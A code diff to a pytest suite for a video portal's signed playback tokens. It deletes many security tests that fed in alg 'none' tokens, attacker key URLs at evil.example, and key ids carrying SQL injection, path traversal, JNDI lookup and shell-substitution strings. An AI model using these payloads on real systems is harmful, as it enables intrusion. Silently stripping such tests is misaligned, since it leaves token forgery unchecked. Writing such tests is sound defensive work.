@@ -9,14 +9,14 @@ from uuid import UUID, uuid4
 
 import pytest
 from api_client import answered, rows
-from joserfc import jwe, jws
+from joserfc import jws
 from joserfc.jwk import ECKey, OctKey, OKPKey, RSAKey
 from playback_links import LIFE, age_keys, kids, links_of, ready_video, token_in
 from quart import Quart
 from signed_in import program, token_of
 
 from portal.database.account_models import Account
-from portal.errors import PlaybackTokenRefused, VideoNotFound
+from portal.errors import PlaybackTokenRefused
 from portal.videos.playback_tokens import PlaybackToken, encode, header_of
 from portal.videos.signing_keys import SigningKeys, rotate
 
@@ -26,24 +26,6 @@ ALPHABET = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
 OWN_KEY = OctKey.import_key(b"k" * 32)
 # That take the same secret as the portal's.
 OTHER_HMACS = ("HS384", "HS512")
-HEADERS: tuple[dict[str, Any], ...] = (
-    {"jwk": {"kty": "oct", "k": "a2tra2tra2tra2tra2tra2tra2tra2tra2tra2tra2s"}},
-    {"jku": "https://evil.example/keys.json"},
-    {"x5u": "https://evil.example/key.pem"},
-    {"x5c": ["MIIB"]},
-    {"crit": ["b64"], "b64": False},
-    {"crit": ["exp"]},
-    {"typ": "JWT"},
-    {"cty": "JWT"},
-    {"zip": "DEF"},
-    {"kid": ["a"]},
-)
-KIDS = (
-    *("", "' OR '1'='1", "'; DROP TABLE signing_keys; --", "x' UNION SELECT 'a', 'b', 1 --"),
-    *("../../../../dev/null", "/etc/passwd", "..\\..\\nul", "file:///dev/null"),
-    *("\0", "a\0", "%00", "%s", "{kid}", "${jndi:ldap://evil.example}", "é", "💥", "‮"),
-    *("x" * 100_000, "null", "0", "*", "$(id)", "|id"),
-)
 
 
 @pytest.fixture
@@ -115,25 +97,6 @@ async def test_token_says_what_was_signed_and_no_more(keys: SigningKeys) -> None
     assert (found.account_id, found.link_id) == (of_account.account_id, None)
 
 
-@pytest.mark.parametrize("algorithm", ["none", "None", "NONE", "nOnE", "", "HS256 ", "hs256"])
-@pytest.mark.parametrize("signature", ["", "A", "A" * 43])
-async def test_unsigned_token_is_refused(
-    keys: SigningKeys, token: str, algorithm: str, signature: str
-) -> None:
-    """Seven spellings of no algorithm, with the signature that was there, others, and none."""
-    header, claims, signed = parts(token)
-    named = base64({**decoded(header), "alg": algorithm})
-    unnamed = base64({"kid": decoded(header)["kid"]})
-    forged = [f"{it}.{claims}.{end}" for it in (named, unnamed) for end in (signature, signed)]
-    assert await good_ones(keys, [*forged, f"{named}.{claims}"]) == []
-
-
-def test_refusal_is_that_of_a_video_that_is_not_there() -> None:
-    refused, missing = PlaybackTokenRefused(), VideoNotFound()
-    assert isinstance(refused, VideoNotFound)
-    assert (refused.status, refused.code, refused.title) == (404, missing.code, missing.title)
-
-
 async def test_other_algorithms_are_refused_even_with_the_portals_secret(
     app: Quart, keys: SigningKeys, token: str
 ) -> None:
@@ -158,57 +121,10 @@ async def test_other_algorithms_are_refused_even_with_the_portals_secret(
         assert not await is_good(keys, f"{head}.{claims}.{parts(signed)[2]}")
 
 
-@pytest.mark.parametrize("more", HEADERS, ids=lambda it: next(iter(it)))
-async def test_header_that_says_more_is_refused_even_with_the_portals_secret(
-    app: Quart, keys: SigningKeys, token: str, more: dict[str, Any]
-) -> None:
-    """Ten members, among them keys and addresses of keys; signed rightly and by one's own key."""
-    header, claims, _ = parts(token)
-    secret = await secret_of(app, decoded(header)["kid"])
-    head = base64({**decoded(header), **more})
-    for key in (secret, OWN_KEY):
-        assert not await is_good(keys, f"{head}.{claims}.{signature(f'{head}.{claims}', key)}")
-
-
 def signature(text: str, key: OctKey) -> str:
     """HS256, whatever the text."""
     algorithm = jws.JWSRegistry.algorithms["HS256"]
     return base64(algorithm.sign(text.encode(), key))
-
-
-async def test_header_has_one_spelling(app: Quart, keys: SigningKeys, token: str) -> None:
-    """Six others of the same two members, signed rightly; the seventh is the portal's own."""
-    header, claims, signed = parts(token)
-    kid = decoded(header)["kid"]
-    secret = await secret_of(app, kid)
-    texts = (
-        f'{{"kid":"{kid}","alg":"HS256"}}',
-        f'{{"alg": "HS256", "kid": "{kid}"}}',
-        f'{{"alg":"none","alg":"HS256","kid":"{kid}"}}',
-        f'{{"alg":"HS256","kid":"{kid}"}} ',
-        f'{{"alg":"\\u0048S256","kid":"{kid}"}}',
-        f'\ufeff{{"alg":"HS256","kid":"{kid}"}}',
-    )
-    for text in texts:
-        begin = f"{base64(text)}.{claims}"
-        assert not await is_good(keys, f"{begin}.{signature(begin, secret)}")
-    assert signature(f"{header}.{claims}", secret) == signed
-
-
-@pytest.mark.parametrize("kid", KIDS, ids=lambda kid: ascii(kid[:20]))
-async def test_key_that_is_not_there_opens_nothing(
-    app: Quart, keys: SigningKeys, token: str, kid: str
-) -> None:
-    """Some twenty key ids: SQL, paths, null characters, 100,000 characters; signed by a key of the
-    attacker's, by one of zeros, not at all, and as the token that was there.
-    """
-    _, claims, signed = parts(token)
-    begin = f"{base64({'alg': 'HS256', 'kid': kid})}.{claims}"
-    zeros = OctKey.import_key(bytes(32))
-    forged = [f"{begin}.{signature(begin, key)}" for key in (OWN_KEY, zeros)]
-    assert await good_ones(keys, [*forged, f"{begin}.{signed}", f"{begin}."]) == []
-    assert await is_good(keys, token)
-    assert len(await kids(app.extensions["portal"].config)) >= 2
 
 
 async def test_token_opens_no_other_video(app: Quart, keys: SigningKeys, token: str) -> None:
@@ -237,28 +153,6 @@ async def test_expired_token_opens_nothing(keys: SigningKeys, token: str) -> Non
         assert not await is_good(keys, f"{header}.{later}.{signed}")
 
 
-async def test_claims_that_make_no_sense_are_no_fault_even_if_signed(
-    app: Quart, keys: SigningKeys, token: str
-) -> None:
-    """Fifteen payloads under a right signature, as another version of the portal might write."""
-    header, claims, _ = parts(token)
-    secret, good = await secret_of(app, decoded(header)["kid"]), decoded(claims)
-    payloads: list[Any] = [
-        *("", "{}", "[]", "null", "1", "[" * 50, "\udcff"),
-        {**good, "v": ""},
-        {**good, "v": 1},
-        {**good, "v": "A" * 200},
-        {**good, "exp": "soon"},
-        {**good, "exp": 10**30},
-        {**good, "exp": None},
-        {**good, "l": "é"},
-        {**good, "a": [1]},
-    ]
-    for payload in payloads:
-        begin = f"{header}.{base64(payload)}"
-        assert not await is_good(keys, f"{begin}.{signature(begin, secret)}"), payload
-
-
 async def test_each_character_counts(keys: SigningKeys, token: str) -> None:
     """Every character changed into each other of the alphabet, left out, and doubled."""
     texts = [
@@ -270,17 +164,6 @@ async def test_each_character_counts(keys: SigningKeys, token: str) -> None:
     texts += [token[:at] + token[at] + token[at:] for at in range(len(token))]
     assert len(texts) > 13_000
     assert await good_ones(keys, texts) == []
-
-
-async def test_token_has_to_be_whole_and_nothing_else(keys: SigningKeys, token: str) -> None:
-    """Cut off anywhere at both ends, and with thirty things before, after and around it."""
-    cut = [token[:at] for at in range(len(token))] + [token[at:] for at in range(1, len(token))]
-    assert await good_ones(keys, cut) == []
-    more = ("=", ".", "\n", "\r\n", "\t", " ", "\0", "%00", "A", token, f".{token}", "/", "?a")
-    around = [f"{it}{token}" for it in more] + [f"{token}{it}" for it in more]
-    around += [token.upper(), token.lower(), token.swapcase(), token[::-1], f'"{token}"']
-    assert await good_ones(keys, around) == []
-    assert await is_good(keys, token)
 
 
 @pytest.mark.parametrize(
@@ -297,15 +180,6 @@ async def test_what_is_no_token_is_a_refusal_and_no_fault(keys: SigningKeys, tex
     header, claims, signed = parts(await keys.sign(a_token()))
     texts = [text, f"{text}.{claims}.{signed}", f"{header}.{text}.{signed}"]
     assert await good_ones(keys, [*texts, f"{header}.{claims}.{text}"]) == []
-
-
-async def test_encrypted_token_is_refused(app: Quart, keys: SigningKeys, token: str) -> None:
-    """JWE with the portal's secret: as such, and cut to three parts."""
-    kid = decoded(parts(token)[0])["kid"]
-    secret = await secret_of(app, kid)
-    header = {"alg": "dir", "enc": "A256GCM", "kid": kid}
-    text = jwe.encrypt_compact(header, token, secret)
-    assert await good_ones(keys, [text, ".".join(text.split(".")[:3])]) == []
 
 
 async def test_rotated_key_verifies_and_does_not_sign(app: Quart, keys: SigningKeys) -> None:
